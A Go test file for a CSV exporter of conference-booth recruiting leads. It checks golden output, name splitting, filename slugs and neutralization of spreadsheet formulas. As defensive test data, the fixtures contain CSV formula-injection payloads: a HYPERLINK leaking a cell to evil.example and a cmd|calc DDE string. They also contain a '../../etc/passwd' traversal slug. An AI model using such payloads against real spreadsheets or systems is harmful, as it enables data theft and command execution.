package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// berlin is a fixed zone so the golden files do not depend on the system's tzdata.
var berlin = time.FixedZone("CEST", 2*60*60)

func at(s string) time.Time {
	t, err := time.Parse("2006-01-02 15:04", s)
	if err != nil {
		panic(err)
	}
	return t.UTC()
}

func ptr[T any](v T) *T { return &v }

// fixtures returns the three leads of the golden files: a Latin name with a comma and
// quotes in the company, a Chinese name with a formula in the message, and a Greek/Hebrew
// name with multi-line notes and cells starting with + @ - and TAB.
func fixtures() []Lead {
	return []Lead{
		{
			ID: "0b9c1c0e-0001", EventName: "GopherCon EU 2026", EventSlug: "gophercon-eu-2026",
			Name: "Ana María  Souza", Email: "ana.souza@example.com", Phone: "0176 5550101",
			Company: `Acme, Inc. "Widgets"`, Title: "Senior Backend Engineer",
			LinkedIn: "https://www.linkedin.com/in/ana-souza", GitHub: "https://github.com/anasouza",
			CVURL:     "https://cv.example.com/ana.pdf",
			Message:   "Interested in platform roles, remote or Berlin.",
			Interests: []string{"Backend", "Platform, SRE"},
			Source:    "self_checkin", VisitCount: 2,
			FirstSeen: at("2026-05-12 12:03"), LastSeen: at("2026-05-13 09:30"),
			Rating: "hot", FollowUp: "Send the platform job ad",
			Consents: []Consent{
				{Purpose: "contact", Granted: true, TextVersion: 3, TextHash: "ab12", CapturedBy: "candidate", At: at("2026-05-12 12:03")},
				{Purpose: "talent_pool", Granted: true, TextVersion: 2, TextHash: "cd34", CapturedBy: "candidate", At: at("2026-05-12 12:03"),
					WithdrawnAt: ptr(at("2026-05-14 08:00"))},
			},
			Conversations: []Conversation{
				{Staff: "Dana Fischer", At: at("2026-05-12 12:10"), Rating: "warm", Notes: "Strong Go, wants remote."},
				{Staff: "Jonas Weber", At: at("2026-05-13 09:35"), Rating: "hot", Notes: "Met the platform team lead.",
					FollowUp: "Send the platform job ad", Interests: []string{"Platform, SRE"}},
			},
		},
		{
			ID: "0b9c1c0e-0002", EventName: "GopherCon EU 2026", EventSlug: "gophercon-eu-2026",
			Name: "李小龙", Email: "xiaolong.li@example.cn", Company: "腾讯", Title: "后端工程师",
			Message:   `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
			Interests: []string{"后端", "Go"},
			Source:    "badge_scan", BadgeCode: "BEGIN:VCARD\nVERSION:3.0\nFN:李小龙\nEND:VCARD",
			VisitCount: 1, FirstSeen: at("2026-05-12 14:00"), LastSeen: at("2026-05-12 14:00"),
			Consents: []Consent{
				{Purpose: "contact", Granted: true, TextVersion: 3, CapturedBy: "staff", At: at("2026-05-12 14:01")},
			},
			Conversations: []Conversation{
				{Staff: "Dana Fischer", At: at("2026-05-12 14:02"), Notes: "Asked about visa sponsorship."},
			},
		},
		{
			ID: "0b9c1c0e-0003", EventName: "GopherCon EU 2026", EventSlug: "gophercon-eu-2026",
			Name: "Ελένη כהן", Email: "eleni@example.gr", Phone: "+49 170 1234567",
			Company: "\tTab Corp", Title: "-1", GitHub: "@eleni-dev",
			Message:   "שלום! I build compilers.\r\nSecond line",
			Interests: []string{"Compilers"},
			Source:    "staff_manual", VisitCount: 1,
			FirstSeen: at("2026-05-13 10:00"), LastSeen: at("2026-05-13 10:00"),
			Rating: "cold",
			Consents: []Consent{
				{Purpose: "contact", Granted: false, TextVersion: 3, CapturedBy: "candidate", At: at("2026-05-13 10:00")},
				{Purpose: "talent_pool", Granted: true, TextVersion: 2, CapturedBy: "staff", At: at("2026-05-13 10:01")},
			},
			Conversations: []Conversation{
				{Staff: "נועה לוי", At: at("2026-05-13 10:05"), Rating: "cold",
					Notes: "Line one\nLine two\n\n- bullet: =SUM(A1)\n"},
			},
		},
	}
}

func writeAll(t testing.TB, p Preset, o Options, leads []Lead) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := NewWriter(&buf, p, o)
	for _, l := range leads {
		if err := w.Write(l); err != nil {
			t.Fatalf("write: %v", err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	if w.Rows() != len(leads) {
		t.Fatalf("Rows() = %d, want %d", w.Rows(), len(leads))
	}
	return buf.Bytes()
}

func readAll(t testing.TB, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte(bom))))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("read back: %v\n%q", err, b)
	}
	return recs
}

func TestGolden(t *testing.T) {
	for _, p := range Presets() {
		t.Run(string(p.Preset), func(t *testing.T) {
			got := writeAll(t, p.Preset, Options{Location: berlin}, fixtures())
			path := filepath.Join("testdata", string(p.Preset)+".golden")
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test ./export -update)", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("output differs from %s (run go test ./export -update and review the diff)\ngot:\n%s", path, got)
			}
			withBOM := writeAll(t, p.Preset, Options{Location: berlin, BOM: true}, fixtures())
			if !bytes.Equal(withBOM, append([]byte(bom), want...)) {
				t.Errorf("BOM output is not EF BB BF + %s:\n%q", path, withBOM[:min(len(withBOM), 40)])
			}
			checkCRLF(t, got)
			recs := readAll(t, got)
			if len(recs) != 4 || !slices.Equal(recs[0], Header(p.Preset)) {
				t.Errorf("records = %d, header = %q", len(recs), recs[0])
			}
			checkNoDangerousCells(t, recs[1:])
		})
	}
}

// TestGoldenCells pins the cells whose composition matters to callers, independently
// of the golden bytes.
func TestGoldenCells(t *testing.T) {
	leads := fixtures()
	col := func(p Preset, recs [][]string, row int, name string) string {
		t.Helper()
		i := slices.Index(Header(p), name)
		if i < 0 {
			t.Fatalf("%s has no column %q", p, name)
		}
		return recs[row][i]
	}
	g := readAll(t, writeAll(t, Generic, Options{Location: berlin}, leads))
	gh := readAll(t, writeAll(t, Greenhouse, Options{Location: berlin}, leads))
	lv := readAll(t, writeAll(t, Lever, Options{Location: berlin}, leads))

	tests := []struct {
		p    Preset
		recs [][]string
		row  int
		col  string
		want string
	}{
		{Generic, g, 1, "First Name", "Ana María"},
		{Generic, g, 1, "Last Name", "Souza"},
		{Generic, g, 1, "Full Name", "Ana María  Souza"},
		{Generic, g, 1, "Company", `Acme, Inc. "Widgets"`},
		{Generic, g, 1, "Interests", "Backend; Platform, SRE"},
		{Generic, g, 1, "First Seen", "2026-05-12 14:03"},
		{Generic, g, 1, "Contact Consent", "yes"},
		{Generic, g, 1, "Contact Consent At", "2026-05-12 14:03"},
		{Generic, g, 1, "Contact Consent Text Version", "3"},
		{Generic, g, 1, "Talent Pool Consent", "withdrawn"},
		{Generic, g, 1, "Consent Captured By", "candidate"},
		{Generic, g, 1, "Conversations", "2026-05-12 14:10 Dana Fischer [warm]: Strong Go, wants remote.\n" +
			"2026-05-13 11:35 Jonas Weber [hot]: Met the platform team lead.\n  Follow-up: Send the platform job ad"},
		{Generic, g, 1, "Conversation Count", "2"},
		{Generic, g, 2, "First Name", "李小龙"},
		{Generic, g, 2, "Last Name", ""},
		{Generic, g, 2, "Message", `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`},
		{Generic, g, 2, "Badge Code", "BEGIN:VCARD\nVERSION:3.0\nFN:李小龙\nEND:VCARD"},
		{Generic, g, 2, "Talent Pool Consent", ""},
		{Generic, g, 2, "Consent Captured By", "staff"},
		{Generic, g, 2, "Conversations", "2026-05-12 16:02 Dana Fischer: Asked about visa sponsorship."},
		{Generic, g, 3, "First Name", "Ελένη"},
		{Generic, g, 3, "Last Name", "כהן"},
		{Generic, g, 3, "Phone", "'+49 170 1234567"},
		{Generic, g, 3, "Company", "'\tTab Corp"},
		{Generic, g, 3, "Title", "'-1"},
		{Generic, g, 3, "GitHub URL", "'@eleni-dev"},
		{Generic, g, 3, "Message", "שלום! I build compilers.\nSecond line"},
		{Generic, g, 3, "Contact Consent", "no"},
		{Generic, g, 3, "Consent Captured By", "contact: candidate; talent_pool: staff"},
		{Generic, g, 3, "Conversations", "2026-05-13 12:05 נועה לוי [cold]: Line one\n  Line two\n\n  - bullet: =SUM(A1)"},

		{Greenhouse, gh, 1, "Social Media", "https://www.linkedin.com/in/ana-souza, https://github.com/anasouza"},
		{Greenhouse, gh, 1, "Website", "https://cv.example.com/ana.pdf"},
		{Greenhouse, gh, 1, "Source", "GopherCon EU 2026 booth"},
		{Greenhouse, gh, 1, "Notes", "Rating: hot\nFollow-up: Send the platform job ad\nInterests: Backend; Platform, SRE\n" +
			"Message: Interested in platform roles, remote or Berlin.\nConversations:\n" +
			"2026-05-12 14:10 Dana Fischer [warm]: Strong Go, wants remote.\n" +
			"2026-05-13 11:35 Jonas Weber [hot]: Met the platform team lead.\n  Follow-up: Send the platform job ad"},
		{Greenhouse, gh, 2, "First Name", "李小龙"},
		{Greenhouse, gh, 2, "Last Name", "李小龙"},
		{Greenhouse, gh, 2, "Notes", "Interests: 后端; Go\n" +
			`Message: =HYPERLINK("http://evil.example/?leak="&A1,"Click me")` + "\nConversations:\n" +
			"2026-05-12 16:02 Dana Fischer: Asked about visa sponsorship."},
		{Greenhouse, gh, 3, "Social Media", "'@eleni-dev"},
		{Greenhouse, gh, 3, "Notes", "Rating: cold\nInterests: Compilers\nMessage: שלום! I build compilers.\n  Second line\n" +
			"Conversations:\n2026-05-13 12:05 נועה לוי [cold]: Line one\n  Line two\n\n  - bullet: =SUM(A1)"},

		{Lever, lv, 1, "Full Name", "Ana María  Souza"},
		{Lever, lv, 1, "Links", "https://www.linkedin.com/in/ana-souza, https://github.com/anasouza, https://cv.example.com/ana.pdf"},
		{Lever, lv, 1, "Tags", "Backend,Platform SRE,rating:hot"},
		{Lever, lv, 1, "Sources", "GopherCon EU 2026"},
		{Lever, lv, 1, "Origin", "Sourced"},
		{Lever, lv, 1, "Stage", "New Lead"},
		{Lever, lv, 2, "Tags", "后端,Go"},
		{Lever, lv, 3, "Links", "'@eleni-dev"},
		{Lever, lv, 3, "Tags", "Compilers,rating:cold"},
	}
	for _, tt := range tests {
		if got := col(tt.p, tt.recs, tt.row, tt.col); got != tt.want {
			t.Errorf("%s row %d %q = %q, want %q", tt.p, tt.row, tt.col, got, tt.want)
		}
	}
}

func TestHeaderOnlyWhenNoRows(t *testing.T) {
	for _, p := range Presets() {
		for _, withBOM := range []bool{false, true} {
			var buf bytes.Buffer
			w := NewWriter(&buf, p.Preset, Options{BOM: withBOM})
			if buf.Len() != 0 {
				t.Fatalf("NewWriter wrote %q", buf.Bytes())
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil { // a second flush must not repeat the header
				t.Fatal(err)
			}
			want := strings.Join(Header(p.Preset), ",") + "\r\n"
			if withBOM {
				want = bom + want
			}
			if buf.String() != want {
				t.Errorf("%s bom=%v: got %q, want %q", p.Preset, withBOM, buf.String(), want)
			}
			if w.Rows() != 0 {
				t.Errorf("Rows() = %d", w.Rows())
			}
		}
	}
}

func TestUnknownPresetWriter(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, "workday", Options{})
	if err := w.Write(fixtures()[0]); !errors.Is(err, ErrUnknownPreset) {
		t.Fatalf("Write err = %v, want ErrUnknownPreset", err)
	}
	if err := w.Flush(); !errors.Is(err, ErrUnknownPreset) {
		t.Fatalf("Flush err = %v", err)
	}
	if buf.Len() != 0 || w.Rows() != 0 {
		t.Fatalf("wrote %q, rows %d", buf.Bytes(), w.Rows())
	}
}

type failWriter struct{ n int }

func (f *failWriter) Write(p []byte) (int, error) {
	if f.n--; f.n < 0 {
		return 0, errors.New("disk full")
	}
	return len(p), nil
}

func TestWriterErrorsAreStickyAndWrapped(t *testing.T) {
	w := NewWriter(&failWriter{}, Generic, Options{BOM: true})
	if err := w.Write(fixtures()[0]); err != nil {
		t.Fatalf("first write is buffered, got %v", err)
	}
	err := w.Flush()
	if err == nil || !strings.Contains(err.Error(), "disk full") || !strings.HasPrefix(err.Error(), "export: ") {
		t.Fatalf("Flush err = %v", err)
	}
	if err2 := w.Write(fixtures()[1]); !errors.Is(err2, err) {
		t.Fatalf("later Write err = %v, want the flush error", err2)
	}
}

func TestParsePreset(t *testing.T) {
	for in, want := range map[string]Preset{
		"": Generic, "generic": Generic, " Greenhouse ": Greenhouse, "LEVER": Lever, //nolint:gocritic // the spaces are what ParsePreset must trim
	} {
		got, err := ParsePreset(in)
		if err != nil || got != want {
			t.Errorf("ParsePreset(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	_, err := ParsePreset("workday")
	if !errors.Is(err, ErrUnknownPreset) {
		t.Fatalf("err = %v, want ErrUnknownPreset", err)
	}
	if msg := err.Error(); msg != `export: unknown preset "workday" (valid: generic, greenhouse, lever)` {
		t.Errorf("message = %q", msg)
	}
}

func TestPresets(t *testing.T) {
	ps := Presets()
	var got []string
	for _, p := range ps {
		got = append(got, string(p.Preset)+"="+p.Label)
		if !p.Preset.Valid() || p.Preset.Label() != p.Label || Header(p.Preset) == nil {
			t.Errorf("%q: Valid/Label/Header inconsistent", p.Preset)
		}
	}
	want := []string{"generic=Generic (all fields)", "greenhouse=Greenhouse prospects", "lever=Lever candidates"}
	if !slices.Equal(got, want) {
		t.Errorf("Presets() = %q", got)
	}
	ps[0].Label = "changed"
	if Presets()[0].Label == "changed" {
		t.Error("Presets() returns shared state")
	}
	h := Header(Lever)
	h[0] = "changed"
	if Header(Lever)[0] != "Full Name" {
		t.Error("Header() returns shared state")
	}
	if Preset("x").Valid() || Header("x") != nil {
		t.Error("unknown preset reported valid")
	}
}

func TestFilename(t *testing.T) {
	day := time.Date(2026, 5, 14, 23, 30, 0, 0, berlin)
	tests := []struct {
		slug string
		p    Preset
		want string
	}{
		{"gophercon-eu-2026", Lever, "boothlead-gophercon-eu-2026-lever-2026-05-14.csv"},
		{"  GopherCon EU/2026!! ", Greenhouse, "boothlead-gophercon-eu-2026-greenhouse-2026-05-14.csv"},
		{"München—Tech", Generic, "boothlead-m-nchen-tech-generic-2026-05-14.csv"},
		{"", "", "boothlead-event-generic-2026-05-14.csv"},
		{"李小龙", Generic, "boothlead-event-generic-2026-05-14.csv"},
		{"../../etc/passwd", Generic, "boothlead-etc-passwd-generic-2026-05-14.csv"},
		{strings.Repeat("ab-", 40), Generic, "boothlead-" + strings.TrimSuffix(strings.Repeat("ab-", 20), "-") + "-generic-2026-05-14.csv"},
	}
	for _, tt := range tests {
		if got := Filename(tt.slug, tt.p, day); got != tt.want {
			t.Errorf("Filename(%q, %q) = %q, want %q", tt.slug, tt.p, got, tt.want)
		}
	}
}

func TestSplitName(t *testing.T) {
	tests := []struct{ in, first, last string }{
		{"Ana Souza", "Ana", "Souza"},
		{"  Ana   María\tSouza  ", "Ana María", "Souza"},
		{"Ludwig van Beethoven", "Ludwig van", "Beethoven"},
		{"Madonna", "Madonna", ""},
		{"李小龙", "李小龙", ""},
		{"山田 太郎", "山田", "太郎"},
		{"Ελένη כהן", "Ελένη", "כהן"},
		{"محمد بن سلمان", "محمد بن", "سلمان"},
		{"Jean\u00a0Dupont", "Jean", "Dupont"},
		{"Hanako\u3000Yamada", "Hanako", "Yamada"},
		{"", "", ""},
		{" \t\n", "", ""},
	}
	for _, tt := range tests {
		first, last := SplitName(tt.in)
		if first != tt.first || last != tt.last {
			t.Errorf("SplitName(%q) = %q, %q; want %q, %q", tt.in, first, last, tt.first, tt.last)
		}
	}
}

func TestNeutralize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Ana", "Ana"},
		{"=1+2", "'=1+2"},
		{`=1+2";=1+2`, `'=1+2";=1+2`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"@SUM(1)", "'@SUM(1)"},
		{"-2+3", "'-2+3"},
		{"+49 170 1234567", "'+49 170 1234567"},
		{"\t=1", "'\t=1"},
		{"\tplain", "'\tplain"},
		{"\r=1", "'\r=1"},
		{"\n=1", "'\n=1"},
		{"\x00x", "'\x00x"},
		{"   =1", "'   =1"},
		{"\u00a0=1", "'\u00a0=1"},
		{"\u200b=1", "'\u200b=1"}, // zero-width space
		{"\u200f@x", "'\u200f@x"}, // right-to-left mark
		{"\ufeff=1", "'\ufeff=1"}, // BOM
		{"\x01=1", "'\x01=1"},
		{"'=1", "'=1"},
		{"a=1", "a=1"},
		{"１+1", "１+1"}, // fullwidth digit is an ordinary character
		{"  ", "  "},
		{"ＡＢ", "ＡＢ"},
		{"\xff=1", "\xff=1"}, // invalid byte is visible (U+FFFD), not a formula
	}
	for _, tt := range tests {
		got := Neutralize(tt.in)
		if got != tt.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if again := Neutralize(got); again != got {
			t.Errorf("Neutralize not idempotent on %q: %q", got, again)
		}
	}
}

func TestSanitize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain", "plain"},
		{"=1", "'=1"},
		{"a\r\nb\rc\nd", "a\nb\nc\nd"},
		{"\r=1", "'\n=1"},
		{"\x00=1", "'=1"},
		{"\x01=1", "'=1"}, // the control char is looked through, then removed
		{"a\x00b\x1bc\x7fd", "ab" + "c\x7fd"},
		{"tab\tkept", "tab\tkept"},
		{"bad\xffutf8", "bad\ufffdutf8"},
		{"李小龙", "李小龙"},
		{"í\x04", "í"}, // found by FuzzNeutralize: a control after non-ASCII text
	}
	for _, tt := range tests {
		if got := Sanitize(tt.in); got != tt.want {
			t.Errorf("Sanitize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	if n := testing.AllocsPerRun(100, func() { _ = Sanitize("already clean, no formula") }); n != 0 {
		t.Errorf("Sanitize of a clean cell allocates %v times", n)
	}
}
